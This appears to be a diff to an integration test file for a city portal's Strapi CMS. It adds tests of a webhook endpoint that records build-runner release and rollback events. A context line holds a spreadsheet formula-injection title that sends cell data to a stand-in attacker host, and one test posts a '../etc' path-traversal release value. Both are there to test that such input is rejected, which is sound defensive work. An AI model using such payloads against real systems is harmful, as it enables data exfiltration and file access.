@@ -10,8 +10,11 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { adminLogin, adminRequests, cm, type Account } from './helpers/admin-api.ts';
 import { RECORD_TABLE as TABLE, verifyRecord, type RecordEntryJson } from './helpers/record.ts';
 import { startStrapi, type StrapiInstance } from './helpers/strapi.ts';
+import { passedGates, recordRunnerEvent } from '@stadtportal/publish/record';
 
 const STAMP = Date.now().toString(36);
+/** The webhook's shared secret, which the runner also presents to the record. */
+const WEBHOOK_SECRET = `geheim-${STAMP}-0123456789abcdef`;
 const NEWS = 'api::news-article.news-article';
 /** An editor's title a spreadsheet would run as a formula. */
 const FORMULA_TITLE = `=HYPERLINK("http://angreifer.example/?d="&A1;"Details") ${STAMP}`;
@@ -54,7 +57,7 @@ const newsDraft = (slug: string, title: string) => ({
 const verify = (file: string, ...args: string[]) => verifyRecord({ DATABASE_CLIENT: 'sqlite', DATABASE_FILENAME: file }, ...args);
 
 beforeAll(async () => {
-  strapi = await startStrapi('sqlite');
+  strapi = await startStrapi('sqlite', { WEBHOOK_SECRET });
   const logins = JSON.parse(await readFile(join(strapi.dir, 'editor-logins.json'), 'utf8')) as Record<Account, { email: string; password: string }>;
   feuerwehrEmail = logins.feuerwehr.email;
   tokens.set('feuerwehr', await adminLogin(strapi.url, logins.feuerwehr.email, logins.feuerwehr.password));
@@ -130,6 +133,50 @@ describe('recording', () => {
     const all = (await record()).sort((a, b) => a.seq - b.seq);
     expect(new Set(all.map((e) => e.prevHash)).size).toBe(all.length);
     for (const id of parallel) expect((await entriesOf(id)).map((e) => e.action)).toEqual(['publish']);
+  });
+});
+
+describe('runner events', () => {
+  const events = () => `${strapi.url}/stadtportal/publication-record/events`;
+  const post = (authorization: string, body: unknown) =>
+    fetch(events(), { method: 'POST', headers: { 'content-type': 'application/json', authorization }, body: JSON.stringify(body) });
+
+  it('refuse a wrong or missing secret and an editor’s login, and record nothing', async () => {
+    const before = (await record()).length;
+    const body = { action: 'rollback', release: 'r2', from: 'r3' };
+    expect((await post('Bearer falsch-falsch-falsch-falsch', body)).status).toBe(401);
+    expect((await post('', body)).status).toBe(401);
+    expect((await post(`Bearer ${tokens.get('pressestelle') ?? ''}`, body)).status).toBe(401);
+    expect((await record()).length).toBe(before);
+  });
+
+  it('refuse an event that does not say what it needs, in German', async () => {
+    const res = await post(`Bearer ${WEBHOOK_SECRET}`, { action: 'release-live', release: 'r1' });
+    expect(res.status).toBe(400);
+    expect(((await res.json()) as { error: { message: string } }).error.message).toMatch(/„gates“ fehlt/);
+    expect((await post(`Bearer ${WEBHOOK_SECRET}`, { action: 'publish', release: 'r1', gates: {} })).status).toBe(400);
+    expect((await post(`Bearer ${WEBHOOK_SECRET}`, { action: 'rollback', release: '../etc', from: 'r1' })).status).toBe(400);
+  });
+
+  it('record a release gone live with its gates, and a rollback, as „Build-Runner“', async () => {
+    const target = { cmsUrl: strapi.url, secret: WEBHOOK_SECRET };
+    const live = await recordRunnerEvent(target, {
+      action: 'release-live',
+      release: `20261207-0450-${STAMP}`,
+      gates: passedGates(['Inhalte holen', 'HTML-Prüfung', 'Links']),
+    });
+    const back = await recordRunnerEvent(target, { action: 'rollback', release: `20261207-0440-${STAMP}`, from: `20261207-0450-${STAMP}` });
+    expect(back.seq).toBe(live.seq + 1);
+    const all = await record();
+    const [a, b] = [all.find((e) => e.seq === live.seq), all.find((e) => e.seq === back.seq)];
+    expect(a).toMatchObject({ actor: 'Build-Runner', actorId: null, action: 'release-live', release: `20261207-0450-${STAMP}`, documentId: null });
+    expect(JSON.parse(a?.gates ?? 'null')).toEqual({ 'Inhalte holen': 'bestanden', 'HTML-Prüfung': 'bestanden', Links: 'bestanden' });
+    expect(b).toMatchObject({
+      actor: 'Build-Runner',
+      action: 'rollback',
+      release: `20261207-0440-${STAMP}`,
+      label: `Rollback von 20261207-0450-${STAMP} auf 20261207-0440-${STAMP}`,
+    });
   });
 });
 
